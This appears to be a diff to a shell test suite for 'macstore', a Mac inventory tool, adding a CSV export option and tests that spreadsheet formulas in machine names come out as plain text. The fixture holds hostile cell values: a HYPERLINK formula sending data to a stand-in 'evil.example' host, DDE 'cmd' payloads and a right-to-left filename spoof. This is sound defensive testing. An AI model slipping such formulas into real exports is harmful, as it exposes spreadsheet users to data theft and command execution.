@@ -13,7 +13,7 @@ fixtures=$top/tests/fixtures/old
 usage=$(cat <<'EOF'
 usage: macstore [-qv] [-d dir] [-k keep] [-T time] add
        macstore [-qv] [-d dir] [-k keep] import file ...
-       macstore [-aqtv] [-d dir] latest
+       macstore [-acqtv] [-d dir] latest
        macstore [-qtv] [-d dir] list
        macstore [-qv] [-d dir] [-k keep] prune
        macstore [-qtv] [-d dir] history id
@@ -394,6 +394,37 @@ check_eq "identity: the failed probe goes on the Mac's history" \
 check_eq "identity: the state outlives retention (identity.json)" \
     "D2FQ7WX3L1 D2FQ7WX3L1@F0E1D2C3-B4A5-5968-8776-655443322110 FVFGK0AAQ6L4" \
     "$(jq -r '.machines | keys | join(" ")' "$ID/identity.json")"
+
+# ---- latest -c: CSV for spreadsheets, formulas neutralised ------------------
+C=$T/csv
+cat > "$T/hostile.ndjson" <<'EOF'
+{"serial":"H1","ip":"198.18.0.10","computer_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")","disk_free_bytes":15000000000,"battery_percent":0,"ac_power":true}
+{"serial":"H2","ip":"198.18.0.11","computer_name":"+cmd|' /C calc'!A0","hostname":"h2.local"}
+{"serial":"H3","ip":"198.18.0.12","computer_name":"@SUM(1+1)*cmd|' /C calc'!A0","console_user":"-2+3"}
+{"serial":"H4","ip":"198.18.0.13","computer_name":"\t=1+1","model":"MacBookPro18,3"}
+{"serial":"H5","ip":"198.18.0.14","computer_name":"\r=1+1","os_version":"14.4.1"}
+{"serial":"H6","ip":"198.18.0.15","computer_name":"Alice \"the\" Mac, 2nd floor","hw_macs":["3c:22:fb:40:00:01","3c:22:fb:40:10:01"]}
+{"serial":"H7","ip":"198.18.0.16","computer_name":"line one\nline two\r\nthree","rtt_ms":1.25}
+{"serial":"H8","ip":"198.18.0.17","computer_name":"evil\u202ecod.exe","hostname":"=1+1"}
+{"serial":"=H9","ip":"198.18.0.18","probe":"ok","probe_incomplete":["backup","=updates"]}
+{"mac":"3c:22:fb:00:00:0a","ip":"198.18.0.19","probe":"auth_failed","probe_error":"-authentication failed"}
+EOF
+macstore -d "$C" -T 2026-11-24T08:00:00Z add < "$T/hostile.ndjson"
+macstore -d "$C" latest -c > "$T/latest.csv"
+macstore -d "$C" latest > "$T/latest.json"
+check "latest -c: Python's csv reads what latest says, cell for cell" \
+    python3 "$top/tests/cli/csv_check.py" "$T/latest.csv" "$T/latest.json" \
+    "$top/tests/fixtures/csv/record.csv"
+check_eq "latest -c: one header row, then one row per machine" 11 \
+    "$(python3 -c 'import csv, sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))))' "$T/latest.csv")"
+check_eq "latest -c: a name that is a formula is text" \
+    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" \
+    "$(python3 -c 'import csv, sys; print([r[1] for r in csv.reader(open(sys.argv[1], newline="")) if r[0] == "H1"][0])' "$T/latest.csv")"
+check_eq "latest -c of an empty store: the header alone" \
+    "$(head -n 1 "$top/tests/fixtures/csv/record.csv")" \
+    "$(macstore -d "$T/empty" latest -c)"
+check_eq "latest -c with -a or -t: exit 2" "2 2 2" \
+    "$(status macstore -d "$C" -ac latest 2>/dev/null) $(status macstore -d "$C" -ct latest 2>/dev/null) $(status macstore -d "$C" -c list 2>/dev/null)"
 
 # ---- a read-only store -------------------------------------------------------
 R=$T/ro
